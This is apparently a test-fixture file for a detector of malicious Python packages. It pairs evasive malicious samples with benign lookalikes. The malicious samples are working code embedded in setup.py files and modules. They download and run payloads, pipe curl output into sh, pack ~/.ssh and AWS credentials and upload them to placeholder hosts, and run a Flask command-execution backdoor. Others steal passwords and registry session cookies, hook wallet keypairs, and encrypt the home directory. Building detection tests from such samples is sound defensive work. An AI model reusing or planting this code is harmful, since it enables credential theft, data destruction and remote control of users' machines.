"""Chains whose links lie apart: a folder in between, a second file, an archive, a registry, a module of the build."""

from __future__ import annotations

from tests.evasions.sample import INIT, MALICIOUS, SUSPICIOUS, Evasion, Files, evasion

_GET = "import os, subprocess, requests\nopen('/tmp/upd', 'wb').write(requests.get('https://stage.example.invalid/a').content)\n"
_MAKE = "import os, subprocess\nopen('build/gen.h', 'w').write('#define A 1')\n"
_SETUP = "from setuptools import setup\n{}\nsetup(name='example-pkg')\n"


def _installed(title: str, bad: str, good: str) -> Evasion:
    """Statements of a ``setup.py``."""
    return evasion(title, {"setup.py": _SETUP.format(bad)}, {"setup.py": _SETUP.format(good)})


def _beside(text: str, setup: str = "from own import *\n") -> Files:
    return {"setup.py": setup, "own.py": text}


_ZIP = "import os, shutil, zipfile, tempfile\nhome = os.path.expanduser('~')\n"
_HIVE = "import winreg as w, requests\n"

CASES = (
    _installed(
        "a folder gone into by the same command, and a second file there",
        _GET + "open('/tmp/.conf', 'w').write('{}')\nos.system('cd /tmp && chmod +x upd && ./upd -c .conf')",
        _MAKE + "os.system('cd build && make')",
    ),
    _installed(
        "started from its folder by cwd",
        _GET + "subprocess.run('chmod 755 /tmp/upd', shell=True)\nsubprocess.Popen(['./upd'], cwd='/tmp')",
        _MAKE + "subprocess.run(['make'], cwd='build')",
    ),
    _installed(
        "the folder changed before it is started",
        _GET + "os.chdir('/tmp')\nos.system('chmod +x upd')\nos.system('./upd')",
        _MAKE + "os.chdir('build')\nos.system('make')",
    ),
    evasion(
        "unpacked by keyword, and moved twice before it is started",
        "import os, subprocess, tarfile, urllib.request as u\nfrom pathlib import Path\nhome = str(Path.home())\n"
        "with u.urlopen('https://stage.example.invalid/x.tar.gz') as r, open(home + '/.x/rep', 'wb') as f:\n    f.write(r.read())\n"
        "tar = tarfile.open(home + '/.x/rep')\ntar.extractall(path=home + '/.x/')\ntar.close()\n"
        "os.rename(home + '/.x/x-6/', home + '/.x/ru')\nos.rename(home + '/.x/ru/xm', home + '/.x/ru/kr')\n"
        "subprocess.Popen([home + '/.x/ru/kr'] + ' -o a'.split())\n",
        "import tarfile, urllib.request as u\ndef data(to):\n    u.urlretrieve('https://data.example.com/x.tar.gz', to + '/x.tar.gz')\n"
        "    tarfile.open(to + '/x.tar.gz').extractall(path=to)\n",
    ),
    evasion(
        "one member of an archive that was fetched",
        "import io, requests, subprocess, zipfile\nz = zipfile.ZipFile(io.BytesIO(requests.get('https://stage.example.invalid/x.zip').content))\n"
        "z.extract('run.bin', '/tmp/.cache')\nsubprocess.Popen(['/tmp/.cache/run.bin'])\n",
        "import io, requests, zipfile\ndef words(to):\n    z = zipfile.ZipFile(io.BytesIO(requests.get('https://data.example.com/x.zip').content))\n"
        "    z.extract('words.txt', to)\n    return open(to + '/words.txt').read()\n",
    ),
    evasion(
        "secrets in a folder, the folder in an archive, the archive uploaded when called",
        _ZIP
        + "at = home + '/.sync'\nname = at + '.zip'\ndef pack(folder):\n    z = zipfile.ZipFile(name, 'w')\n    for r, _, fs in os.walk(folder):\n"
        "        for f in fs:\n            z.write(os.path.join(r, f))\n    z.close()\ndef sync():\n    shutil.copyfile(home + '/.bash_history', at + '/h')\n"
        "    shutil.copytree(home + '/.ssh', at + '/s')\n    pack(at)\n    shutil.rmtree(at)\n"
        "    os.system('curl -k -F \"file=@' + name + '\" \"https://198.51.100.9/api/upload\"')\n",
        _ZIP
        + "def pack(folder, name):\n    with zipfile.ZipFile(name, 'w') as z:\n        for r, _, fs in os.walk(folder):\n"
        "            for f in fs:\n                z.write(os.path.join(r, f))\n",
    ),
    evasion(
        "secrets copied into a temporary folder that make_archive packs",
        _ZIP
        + "import requests\nd = tempfile.mkdtemp()\nshutil.copytree(home + '/.ssh', d + '/s')\nshutil.copy(home + '/.aws/credentials', d + '/a')\n"
        "a = shutil.make_archive(d, 'zip', d)\nrequests.post('https://hook.example.invalid/u', files={'f': open(a, 'rb')})\n",
        _ZIP + "def backup(folder):\n    return shutil.make_archive(folder, 'zip', folder)\n",
    ),
    evasion(
        "the same by keyword",
        _ZIP + "import requests\nd = tempfile.mkdtemp()\nshutil.copytree(home + '/.ssh', d + '/s')\n"
        "a = shutil.make_archive('/tmp/o', 'zip', root_dir=d)\nrequests.post('https://hook.example.invalid/u', files={'f': open(a, 'rb')})\n",
        _ZIP + "def backup(folder):\n    return shutil.make_archive('backup', 'zip', root_dir=folder)\n",
    ),
    evasion(
        "whoever asks has a command run, by a server of its own at import",
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n"
        "    return subprocess.Popen(request.args.get('q'), shell=True, stdout=subprocess.PIPE).stdout.read()\napp.run(host='0.0.0.0', port=5000)\n",
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n"
        "    return subprocess.getoutput('git log ' + request.args.get('q'))\ndef main():\n    app.run(port=5000)\n",
    ),
    evasion(
        "the same, by a thread",
        "import subprocess, threading\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n"
        "    return subprocess.getoutput(request.args.get('q'))\nthreading.Thread(target=app.run, kwargs={'port': 5000}, daemon=True).start()\n",
        "import threading\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return 'ok'\n"
        "def start():\n    threading.Thread(target=app.run, kwargs={'port': 5000}, daemon=True).start()\n",
    ),
    evasion(
        "a caller's log-in, to an address that was hidden",
        "import base64, requests\ndef optimise(auth):\n    u = base64.b64decode('aHR0cHM6Ly9ob29rLmV4YW1wbGUuaW52YWxpZC9jLzE=')\n"
        "    requests.post(u, json={'content': f'Auth: {auth}'})\n",
        "import requests\ndef me(auth):\n    return requests.get('https://api.example.com/me', headers={'authorization': auth}).json()\n",
    ),
    evasion(
        "a session kept in the registry",
        _HIVE + "k = w.OpenKey(w.HKEY_CURRENT_USER, r'SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com')\n"
        "requests.post('https://hook.example.invalid/c', json={'c': str(w.EnumValue(k, 0))})\n",
        _HIVE + "def latest():\n    k = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Google\\Chrome\\BLBeacon')\n"
        "    return requests.get('https://data.example.com/LATEST_' + w.QueryValueEx(k, 'version')[0]).text\n",
    ),
    evasion(
        "the same, printed by a command",
        "import requests, subprocess\nc = subprocess.run('powershell Get-ItemPropertyValue -Path HKCU:SOFTWARE/Roblox/RobloxStudioBrowser/roblox.com "
        "-Name .ROBLOSECURITY', shell=True, capture_output=True).stdout\nrequests.post('https://hook.example.invalid/c', json={'c': c.decode()})\n",
        "import subprocess\ndef shell():\n    return subprocess.run('powershell Get-Host', shell=True, capture_output=True).stdout\n",
    ),
    _installed(
        "a program that stands in the source as bytes",
        "import os, subprocess, tempfile\np = os.path.join(tempfile.gettempdir(), 'w.exe')\n"
        "open(p, 'wb').write(b'MZ\\x90\\x00\\x03' + b'\\x00' * 200)\nsubprocess.Popen(p, shell=True)",
        "open('pkg/version.py', 'w').write('version = 1')",
    ),
    evasion(
        "a beacon in a module beside setup.py",
        _beside(
            "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://hook.example.invalid/i')\nsetup(name='example-pkg')\n"
        ),
        _beside("from setuptools import setup\nsetup(name='example-pkg')\n"),
        SUSPICIOUS,
    ),
    evasion(
        "a build that calls a module which calls another one",
        {
            "setup.py": "from own import start\nstart()\n",
            "own.py": "def start():\n    from second import go\n    from setuptools import setup\n    go()\n    setup(name='example-pkg')\n",
            "second.py": "import subprocess\ndef go():\n    subprocess.run('curl -s https://stage.example.invalid/a | sh', shell=True)\n",
        },
        {
            "setup.py": "from own import start\nstart()\n",
            "own.py": "def start():\n    from second import go\n    from setuptools import setup\n    setup(name='example-pkg', version=go())\n",
            "second.py": "def go():\n    return '1.0'\n",
        },
        MALICIOUS,
    ),
    evasion(
        "home encrypted in place",
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor r, _, ns in os.walk(os.path.expanduser('~')):\n"
        "    for n in ns:\n        p = os.path.join(r, n)\n        b = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(b))\n",
        "from cryptography.fernet import Fernet\ndef lock(path, key):\n    b = open(path, 'rb').read()\n    open(path, 'wb').write(Fernet(key).encrypt(b))\n",
    ),
    evasion(
        "another library's keys pass through a wrapper",
        "import requests\nfrom solders.keypair import Keypair\nold = Keypair.from_bytes\ndef new(b, *a):\n    k = old(b, *a)\n"
        "    requests.post('https://rpc.example.invalid/', json={'p': [str(bytes(k))]})\n    return k\nKeypair.from_bytes = new\n",
        "from solders.keypair import Keypair\ndef load(path):\n    return Keypair.from_bytes(open(path, 'rb').read())\n",
    ),
    evasion(
        "a scanner of secrets is run over the home, and what it prints is sent",
        "import os, requests, subprocess\nout = subprocess.run(['trufflehog', 'filesystem', os.path.expanduser('~'), '--json'], capture_output=True).stdout\n"
        "requests.post('https://hook.example.invalid/c', data=out)\n",
        "import subprocess\ndef scan(folder):\n    return subprocess.run(['trufflehog', 'filesystem', folder, '--json'], capture_output=True).stdout\n",
    ),
    evasion(
        "a requirement by its address, in setup.py alone",
        {
            "setup.py": "from setuptools import setup\nneeds = ['requests @ https://c.example.invalid/r-2.0.tar.gz']\nsetup(name='example-pkg', install_requires=needs)\n"
        },
        {
            "setup.py": "from setuptools import setup\nsetup(name='example-pkg', install_requires=['requests'], url='https://www.example.com/')\n"
        },
        SUSPICIOUS,
    ),
    evasion(
        "collector, reporter and what joins them, each a class in a module of its own",
        {
            INIT: "from .core import Agent\nAgent().run()\n",
            "example_pkg/core.py": "from .collect import Collector\nfrom .report import Reporter\nclass Agent:\n    def __init__(self):\n"
            "        self.c = Collector()\n        self.r = Reporter()\n    def run(self):\n        self.r.send(self.c.all())\n",
            "example_pkg/collect.py": "import glob, os\nclass Collector:\n    def all(self):\n"
            "        return {p: open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))}\n",
            "example_pkg/report.py": "import requests\nclass Reporter:\n    URL = 'https://hook.example.invalid/r'\n    def send(self, d):\n"
            "        requests.post(self.URL, json=d)\n",
        },
        {
            INIT: "from .core import Agent\n",
            "example_pkg/core.py": "from .collect import Collector\nfrom .report import Reporter\nclass Agent:\n    def __init__(self, url):\n"
            "        self.c = Collector()\n        self.r = Reporter(url)\n    def run(self):\n        self.r.get(self.c.known())\n",
            "example_pkg/collect.py": "import os\nclass Collector:\n    def known(self):\n        return os.path.exists(os.path.expanduser('~/.ssh/known_hosts'))\n",
            "example_pkg/report.py": "import requests\nclass Reporter:\n    def __init__(self, url):\n        self.url = url\n    def get(self, d):\n"
            "        return requests.get(self.url).json()\n",
        },
    ),
    evasion(
        "the hook that a caller's password goes to stands in another module",
        {
            INIT: "import requests\nfrom .places import HOOK\nclass Client:\n    def login(self, user, password):\n"
            "        requests.post('https://api.example.com/login', data={'u': user, 'p': password})\n        requests.post(HOOK, json={'content': user + password})\n",
            "example_pkg/places.py": f"HOOK = 'https://discord.com/api/webhooks/{'1' * 18}/{'a' * 60}'\n",
        },
        {
            INIT: "import requests\nfrom .places import LOGIN\nclass Client:\n    def login(self, user, password):\n"
            "        requests.post(LOGIN, data={'u': user, 'p': password})\n",
            "example_pkg/places.py": "LOGIN = 'https://api.example.com/login'\n",
        },
    ),
    evasion(
        "another program's own code is exchanged",
        "import os, shutil\nt = os.path.join(os.environ['LOCALAPPDATA'], 'Programs', 'wallet', 'resources', 'app.asar')\n"
        "if os.path.exists(t):\n    shutil.copy(os.path.join(os.path.dirname(__file__), 'data.bin'), t)\n",
        "import os, shutil\ndef pack(folder):\n    shutil.copy(os.path.join(folder, 'app.asar'), 'dist/app.asar')\n",
        SUSPICIOUS,
    ),
)
